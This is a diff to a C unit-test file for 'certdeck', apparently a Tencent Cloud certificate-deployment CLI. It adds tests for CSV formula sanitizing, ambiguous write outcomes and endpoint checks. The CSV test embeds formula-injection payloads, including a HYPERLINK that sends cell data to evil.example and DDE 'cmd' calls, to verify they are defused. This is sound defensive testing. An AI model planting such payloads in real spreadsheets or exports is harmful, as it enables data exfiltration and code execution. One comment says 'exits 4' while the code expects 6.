@@ -225,7 +225,8 @@ static void test_transport_warnings(void **state)
         const char *args;
         const char *warning; /* expected in stderr, or NULL for none */
     } cases[] = {
-        {"--endpoint http://remote.invalid rollback 2", "plain http:// to a remote host"},
+        {"--allow-http --endpoint http://remote.invalid rollback 2",
+         "plain http:// to a remote host"},
         {"--endpoint http://127.0.0.1:1 rollback 2", NULL},
         {"--endpoint http://localhost:8080 rollback 2", NULL},
         {"--endpoint https://ssl.tencentcloudapi.com rollback 2", NULL},
@@ -335,6 +336,219 @@ static void test_rollback_then_detail_shows_it(void **state)
     unsetenv("TENCENTCLOUD_SECRET_KEY");
 }
 
+/* Splits one CSV document into its cells (quotes undone), one heap string per cell. */
+static size_t csv_cells(const char *csv, char ***out)
+{
+    size_t n = 0, cap = 0;
+    char **cells = NULL;
+    const char *p = csv;
+    while (*p) {
+        struct buf cell = {0};
+        buf_puts(&cell, "");
+        if (*p == '"') {
+            for (p++; *p && !(p[0] == '"' && p[1] != '"'); p++) {
+                if (*p == '"') p++;
+                buf_putc(&cell, *p);
+            }
+            if (*p == '"') p++;
+        } else {
+            for (; *p && *p != ',' && *p != '\r'; p++)
+                buf_putc(&cell, *p);
+        }
+        cells = xgrow(cells, &cap, n + 1, sizeof *cells);
+        cells[n++] = cell.data;
+        if (*p == ',') p++;
+        if (*p == '\r') p += 2; /* CRLF ends the row */
+    }
+    *out = cells;
+    return n;
+}
+
+static bool has_cell(char **cells, size_t n, const char *want)
+{
+    for (size_t i = 0; i < n; i++)
+        if (!strcmp(cells[i], want)) return true;
+    return false;
+}
+
+/* A name, domain or error text that a spreadsheet would run as a formula gets a ' in front,
+ * in every CSV certdeck writes; --csv-raw writes the sanitized text as it is. */
+static void test_csv_defuses_formulas(void **state)
+{
+    (void)state;
+    char *ds = tu_testdata("dataset_formulas.json");
+    static const char *const cmds[] = {"records --all", "detail 301 --all"};
+    for (size_t c = 0; c < ARRAY_LEN(cmds); c++) {
+        struct run r = run_cli("--demo --dataset '%s' %s -o csv", ds, cmds[c]);
+        assert_int_equal(r.status, 0);
+        char **cells;
+        size_t n = csv_cells(r.out, &cells);
+        assert_true(n > 6);
+        for (size_t i = 0; i < n; i++) {
+            assert_null(strchr("=+-@\t\r", cells[i][0]) && cells[i][0] ? cells[i] : NULL);
+            free(cells[i]);
+        }
+        free(cells);
+        run_free(&r);
+    }
+    struct run d = run_cli("--demo --dataset '%s' detail 301 -o csv", ds);
+    struct run raw = run_cli("--demo --dataset '%s' detail 301 -o csv --csv-raw", ds);
+    assert_int_equal(d.status, 0);
+    assert_int_equal(raw.status, 0);
+    char **cd, **cr;
+    size_t nd = csv_cells(d.out, &cd), nr = csv_cells(raw.out, &cr);
+    assert_int_equal(nd, nr);
+    static const char *const hostile[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                                          "+SUM(1,1)",
+                                          "@SUM(1+1)*cmd|' /C calc'!A0",
+                                          "-2+3+cmd|' /C calc'!A0",
+                                          " =1+1" /* a tab, sanitized */,
+                                          "^M=1+1" /* a CR, sanitized */};
+    for (size_t i = 0; i < ARRAY_LEN(hostile); i++) {
+        char *quoted = xasprintf("'%s", hostile[i]);
+        assert_true(has_cell(cd, nd, quoted));
+        assert_false(has_cell(cd, nd, hostile[i]));
+        assert_true(has_cell(cr, nr, hostile[i]));
+        free(quoted);
+    }
+    assert_true(has_cell(cd, nd, "safe-name a=b")); /* only the first character counts */
+    for (size_t i = 0; i < nd; i++)
+        free(cd[i]);
+    for (size_t i = 0; i < nr; i++)
+        free(cr[i]);
+    free(cd);
+    free(cr);
+    run_free(&d);
+    run_free(&raw);
+    free(ds);
+}
+
+/* A write sent with no clear answer (the reply cut short after the server applied it, or no
+ * reply before the timeout) says that it may have been applied, exits 4, and is never sent
+ * twice. A write that never left (connection refused) is a plain network error, exit 3. */
+static void test_write_outcome_unknown(void **state)
+{
+    (void)state;
+    char *ds = tu_testdata("dataset_small.json");
+    struct emu_config ec = {.dataset_file = ds};
+    struct emu *e = tu_emu_start(&ec);
+    setenv("TENCENTCLOUD_SECRET_ID", EMU_DEMO_SECRET_ID, 1);
+    setenv("TENCENTCLOUD_SECRET_KEY", EMU_DEMO_SECRET_KEY, 1);
+
+    emu_set_fault(e, EMU_FAULT_TRUNCATED, 1);
+    uint64_t before = emu_request_count(e);
+    struct run rb = run_cli("--endpoint %s rollback 101 --yes", emu_url(e));
+    assert_int_equal(rb.status, 6);
+    assert_int_equal(emu_request_count(e), before + 1); /* sent once */
+    assert_non_null(strstr(rb.err, "certdeck: the rollback of record 101 may have been applied "
+                                   "— check with `certdeck detail 101` before retrying\n"));
+    run_free(&rb);
+    /* It was applied: the detail shows the rollback run. */
+    struct run d = run_cli("--endpoint %s detail 101 -o json", emu_url(e));
+    assert_int_equal(d.status, 0);
+    cJSON *root = cJSON_Parse(d.out);
+    cJSON *runs = cJSON_GetObjectItemCaseSensitive(root, "DeployRecordDetail");
+    cJSON *last = cJSON_GetArrayItem(runs, cJSON_GetArraySize(runs) - 1);
+    assert_int_equal(cJSON_GetObjectItemCaseSensitive(last, "Type")->valueint, 1);
+    cJSON_Delete(root);
+    run_free(&d);
+
+    emu_set_fault(e, EMU_FAULT_TIMEOUT, 1);
+    before = emu_request_count(e);
+    struct run rt = run_cli("--endpoint %s --timeout 0.5 retry 102 --yes", emu_url(e));
+    assert_int_equal(rt.status, 6);
+    assert_int_equal(emu_request_count(e), before + 1);
+    assert_non_null(strstr(rt.err, "the retry of record 102 may have been applied — check with "
+                                   "`certdeck detail 102` before retrying"));
+    run_free(&rt);
+    emu_set_fault(e, EMU_FAULT_NONE, 0);
+    char *url = xstrdup(emu_url(e));
+    emu_stop(e);
+
+    struct run refused = run_cli("--endpoint %s rollback 101 --yes", url);
+    assert_int_equal(refused.status, 3);
+    assert_null(strstr(refused.err, "may have been applied"));
+    run_free(&refused);
+    free(url);
+    free(ds);
+    unsetenv("TENCENTCLOUD_SECRET_ID");
+    unsetenv("TENCENTCLOUD_SECRET_KEY");
+}
+
+/* The smaller checks: plain http:// to a remote host needs --allow-http; a port out of range
+ * is a usage error; a missing option value is named as such; a binary credentials file is a
+ * parse error; doctor does not claim TLS for http://. */
+static void test_endpoint_and_option_checks(void **state)
+{
+    (void)state;
+    setenv("TENCENTCLOUD_SECRET_ID", "AKIDcliTEST", 1);
+    setenv("TENCENTCLOUD_SECRET_KEY", "some-key", 1);
+    struct run r = run_cli("--endpoint http://remote.invalid records");
+    assert_int_equal(r.status, 2);
+    assert_non_null(strstr(r.err, "refusing plain http:// to a remote host"));
+    assert_non_null(strstr(r.err, "--allow-http"));
+    run_free(&r);
+
+    static const char *const ports[] = {"http://127.0.0.1:99999", "https://example.com:0",
+                                        "http://127.0.0.1:", "http://127.0.0.1:8x"};
+    for (size_t i = 0; i < ARRAY_LEN(ports); i++) {
+        r = run_cli("--endpoint %s records", ports[i]);
+        assert_int_equal(r.status, 2);
+        assert_non_null(strstr(r.err, "the port must be a number from 1 to 65535"));
+        run_free(&r);
+    }
+
+    r = run_cli("retry --item");
+    assert_int_equal(r.status, 2);
+    assert_non_null(strstr(r.err, "option --item needs a value"));
+    run_free(&r);
+
+    r = run_cli("--endpoint http://127.0.0.1:1 --timeout 0.5 doctor");
+    assert_non_null(strstr(r.out, "TLS:          none: plain http://"));
+    assert_null(strstr(r.out, "verification on"));
+    run_free(&r);
+    unsetenv("TENCENTCLOUD_SECRET_ID");
+    unsetenv("TENCENTCLOUD_SECRET_KEY");
+
+    char *dir = tu_mkdtemp("cli-bincreds");
+    char *path = tu_path(dir, "credentials");
+    FILE *f = fopen(path, "wb");
+    assert_non_null(f);
+    fwrite("\x7f"
+           "ELF\x02\x01\x01\0\0\0[default]\n",
+           1, 20, f);
+    fclose(f);
+    setenv("TENCENTCLOUD_CREDENTIALS_FILE", path, 1);
+    r = run_cli("records");
+    unsetenv("TENCENTCLOUD_CREDENTIALS_FILE");
+    assert_int_equal(r.status, 2);
+    assert_non_null(strstr(r.err, "not a text INI file"));
+    assert_null(strstr(r.err, "no credentials found"));
+    run_free(&r);
+    tu_rm_rf(dir);
+    free(path);
+    free(dir);
+
+    /* The emulator's --dataset: a regular file only, and at most 32 MiB. */
+    r = run_cli("--demo --dataset /dev/zero records");
+    assert_int_equal(r.status, 2);
+    assert_non_null(strstr(r.err, "/dev/zero is not a regular file"));
+    run_free(&r);
+    dir = tu_mkdtemp("cli-bigdataset");
+    path = tu_path(dir, "big.json");
+    f = fopen(path, "wb");
+    assert_non_null(f);
+    assert_int_equal(ftruncate(fileno(f), (off_t)33 * 1024 * 1024), 0);
+    fclose(f);
+    r = run_cli("--demo --dataset '%s' records", path);
+    assert_int_equal(r.status, 2);
+    assert_non_null(strstr(r.err, "larger than 32 MiB"));
+    run_free(&r);
+    tu_rm_rf(dir);
+    free(path);
+    free(dir);
+}
+
 int main(void)
 {
     signal(SIGPIPE, SIG_IGN);
@@ -349,6 +563,9 @@ int main(void)
         cmocka_unit_test(test_transport_warnings),
         cmocka_unit_test(test_api_and_network_errors),
         cmocka_unit_test(test_rollback_then_detail_shows_it),
+        cmocka_unit_test(test_csv_defuses_formulas),
+        cmocka_unit_test(test_write_outcome_unknown),
+        cmocka_unit_test(test_endpoint_and_option_checks),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
